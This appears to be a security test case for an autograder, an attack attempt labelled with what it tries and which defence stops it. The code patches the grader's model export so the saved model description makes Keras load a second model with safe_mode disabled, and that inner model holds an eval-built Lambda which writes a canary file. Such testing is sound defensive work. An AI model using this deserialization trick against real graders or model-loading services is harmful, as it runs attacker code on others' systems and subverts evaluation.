# tries: a model whose description has Keras load a second model, unsafely
# must not: its code does not run in the grader
# would: code
# undefended: naive
# earns: 2
# stopped by: list of allowed parts

# %%
import autograder.engine.student as engine
original = engine.export_model
def crafted(model):
    data = original(model)
    data["architecture"]["config"]["layers"].append(evil())
    return data
engine.export_model = crafted

def evil():
    import os
    function = eval(f"lambda x: [__import__('os').getpid() == {os.getpid()} or open({K.CANARY!r}, 'w').close(), x][1]")
    inner = keras.Sequential([keras.Input((3,)), keras.layers.Lambda(function)])
    inner.save("inner.keras")
    return {"module": "keras.models", "class_name": "load_model", "registered_name": None,
            "config": {"filepath": os.path.abspath("inner.keras"), "safe_mode": False}}
